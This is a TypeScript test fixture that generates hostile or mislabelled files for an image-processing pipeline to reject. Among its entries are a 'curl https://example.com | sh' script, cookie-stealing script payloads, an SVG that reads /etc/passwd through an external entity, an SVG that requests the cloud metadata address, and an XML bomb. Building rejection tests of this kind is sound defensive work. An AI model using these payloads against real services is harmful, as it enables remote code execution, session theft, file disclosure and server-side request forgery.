// Files that are something else, whatever they are called.
import { gzipSync } from 'node:zlib';
import { box, u8 } from '../../support/heif-boxes.ts';
import type { HostileFile } from '../hostile-files.ts';

const hex = (digits: string, length = 4000) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(length)]);
const isoMedia = (brands: string) =>
  Buffer.concat([
    box('ftyp', Buffer.from(brands.slice(0, 4)), u8(0, 0, 2, 0), Buffer.from(brands)),
    box('mdat', Buffer.alloc(4000)),
  ]);

const NOT_IMAGES: Readonly<Record<string, Buffer>> = {
  'an empty file': Buffer.alloc(0),
  'one byte': u8(0xff),
  'the first two bytes of a JPEG': u8(0xff, 0xd8),
  'half of the signature of a PNG': Buffer.from('89504e47', 'hex'),
  zeros: Buffer.alloc(100_000),
  text: Buffer.from('Not a picture. '.repeat(100)),
  'an HTML page': Buffer.from('<!doctype html><html><body><script>alert(1)</script><img src="https://tracker.example/x.gif">'),
  'an HTML page in UTF-16': Buffer.concat([u8(0xff, 0xfe), Buffer.from('<html><body>404</body></html>', 'utf16le')]),
  'a script': Buffer.from('#!/bin/sh\ncurl https://example.com | sh\n'),
  JSON: Buffer.from('{"error":"not found"}'),
  'a ZIP archive': hex('504b0304140000000800'),
  'a gzip archive': gzipSync(Buffer.alloc(5000)),
  'a program': hex('7f454c4602010100'),
  WebAssembly: hex('0061736d01000000'),
  'a sound': Buffer.concat([Buffer.from('RIFF\x24\x10\0\0WAVEfmt ', 'latin1'), Buffer.alloc(4000)]),
  JavaScript: Buffer.from('/*\xff\xd8\xff*/alert(document.cookie)', 'latin1'),
  'an XML bomb': Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'),
};

const OF_OTHER_TYPES: Readonly<Record<string, Buffer>> = {
  SVG: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><script>alert(1)</script></svg>'),
  'SVG that reads a file': Buffer.from(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  ),
  'SVG that asks a host': Buffer.from(
    '\ufeff<!-- --><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/"/></svg>',
  ),
  PDF: Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj'),
  'TIFF of Intel': hex('49492a0008000000'),
  'TIFF of Motorola': hex('4d4d002a00000008'),
  BigTIFF: hex('49492b0008000000'),
  'RAW of Canon (CR2)': hex('49492a00100000004352020000000000'),
  'RAW of Canon (CR3)': isoMedia('crx crx isom'),
  'RAW of Fujifilm': Buffer.concat([Buffer.from('FUJIFILMCCD-RAW 0201'), Buffer.alloc(4000)]),
  'RAW of Panasonic': hex('49495500180000008800'),
  'RAW of Olympus': hex('4949524f08000000'),
  PSD: Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), Buffer.alloc(4000)]),
  BMP: hex('424d36100000000000003600000028000000'),
  ICO: hex('00000100010010100000'),
  'JPEG XL': hex('ff0a'),
  'JPEG XL in boxes': hex('0000000c4a584c200d0a870a'),
  'JPEG 2000 without boxes': hex('ff4fff51002f0000'),
  'JPEG-LS': hex('ffd8fff7000b0802000200030000'),
  'JPEG XR': hex('4949bc0120000000'),
  'a RAW file of Adobe (DNG) or Sony (ARW)': hex('49492a0008000000'),
  'a RAW file of Nikon (NEF)': hex('4d4d002a00000008'),
  'RAW of Minolta': hex('004d524d'),
  'RAW of Sigma': hex('464f566200030002'),
  OpenEXR: hex('762f310102000000'),
  'Radiance HDR': Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 480 +X 640\n'.padEnd(4000)),
  QOI: hex('716f696600000280000001e00300'),
  DDS: hex('444453207c000000'),
  PPM: Buffer.concat([Buffer.from('P6\n640 480\n255\n'), Buffer.alloc(4000)]),
  'an XCF of GIMP': Buffer.concat([Buffer.from('gimp xcf v011\0'), Buffer.alloc(4000)]),
  EPS: Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n'.padEnd(4000)),
  DjVu: Buffer.concat([Buffer.from('AT&TFORM'), Buffer.alloc(4000)]),
  'HEIF with H.264': isoMedia('avcimif1avci'),
  'HEIF with JPEG': isoMedia('jpegmif1jpeg'),
  'HEIF with VVC': isoMedia('vvicmif1vvic'),
  'a video of QuickTime without a type': Buffer.concat([box('wide'), box('mdat', Buffer.alloc(4000))]),
  'a video of 3GPP': isoMedia('3gp4isom'),
  'JPEG 2000': hex('0000000c6a5020200d0a870a'),
  'a video of a phone (MP4)': isoMedia('mp42isommp42'),
  'a video of a phone (MOV)': isoMedia('qt  qt  '),
  WebM: hex('1a45dfa39f4286810142f7'),
  AVI: Buffer.concat([Buffer.from('RIFF\x24\x10\0\0AVI LIST', 'latin1'), Buffer.alloc(4000)]),
};

const ending = (files: Readonly<Record<string, Buffer>>, ends: HostileFile['ends']) =>
  Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, { ends, make: () => bytes }]));

export const OTHER_TYPES: Readonly<Record<string, HostileFile>> = {
  ...ending(NOT_IMAGES, 'not_an_image'),
  ...ending(OF_OTHER_TYPES, 'unsupported'),
};
